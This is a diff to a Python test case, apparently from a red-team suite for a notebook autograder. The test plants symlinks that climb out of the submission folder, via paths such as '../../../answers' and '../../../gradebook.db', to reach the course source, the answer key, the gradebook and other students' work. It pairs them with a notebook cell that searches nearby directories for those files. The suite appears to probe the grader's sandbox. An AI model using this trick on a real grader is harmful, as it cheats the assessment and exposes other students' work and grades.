@@ -1,8 +1,14 @@
-"""Lays links to the source, the answers, the gradebook and the others' work beside the notebook and reads them from the code."""
+"""Lays links to the source, the answers, the gradebook and the others' work beside the notebook and reads them."""
 
 from attacks.harness import Link
 
-CODE = """
+FILES = {
+    "source.ipynb.txt": Link("../../../source/week1_attention/attention.ipynb"),
+    "answers": Link("../../../answers"),
+    "gradebook": Link("../../../gradebook.db"),
+    "others": Link("../.."),
+}
+CELL = """
 import os
 for base in (".", "..", os.environ.get("HOME", "."), os.path.dirname(os.path.abspath("."))):
     for name in ("source.ipynb", "answers", "gradebook", "others", "week1_attention/source.ipynb"):
@@ -14,11 +20,3 @@ for base in (".", "..", os.environ.get("HOME", "."), os.path.dirname(os.path.abs
                 pass
 reached()
 """
-
-
-def attack(submission):
-    submission.files["source.ipynb.txt"] = Link("../../../source/week1_attention/attention.ipynb")
-    submission.files["answers"] = Link("../../../answers")
-    submission.files["gradebook"] = Link("../../../gradebook.db")
-    submission.files["others"] = Link("../..")
-    submission.add(CODE)
